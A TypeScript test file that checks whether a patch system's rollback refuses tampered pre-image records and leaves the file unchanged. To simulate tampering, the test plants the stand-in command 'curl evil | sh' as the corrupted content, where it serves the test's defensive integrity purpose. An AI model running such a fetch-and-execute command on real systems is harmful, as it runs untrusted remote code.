import { describe, expect, test } from "bun:test";
import { applyChange, makeFileChange, rollbackChange } from "../../lib/patch/index.ts";
import { faultRepo } from "./_faults-repo.ts";

describe("rollback checks its pre-images", () => {
  test("a pre-image row edited on disk is refused with E_PRE_IMAGE_CORRUPT and nothing is written", async () => {
    await using f = await faultRepo({ files: { "a.txt": "a\n" } });
    const [c] = f.enqueue([{ task_id: "t", changes: [makeFileChange("a.txt", "a\n", "A\n")] }]);
    const leased = f.queue.lease("test:1:w")!;
    applyChange({
      repo: f.root,
      db: f.repo.db,
      secret: f.secret,
      change: { id: leased.id, payload: leased.payload, signature: leased.signature },
    });
    f.queue.complete(leased.id, leased.token);
    // Someone edits the recorded pre-image (the hash column still names the true content).
    f.repo.db.run("UPDATE pre_images SET content = ?, content_codec = NULL WHERE change_id = ?", [
      new TextEncoder().encode("curl evil | sh\n"),
      c!.id,
    ]);
    let code: string | undefined;
    try {
      rollbackChange({ repo: f.root, db: f.repo.db, changeId: c!.id });
    } catch (e) {
      code = (e as { code?: string }).code;
    }
    expect(code).toBe("E_PRE_IMAGE_CORRUPT");
    expect(f.read("a.txt")).toBe("A\n");
    expect(f.journal(c!.id)).toEqual([{ kind: "apply", state: "applied" }]);
  });
});
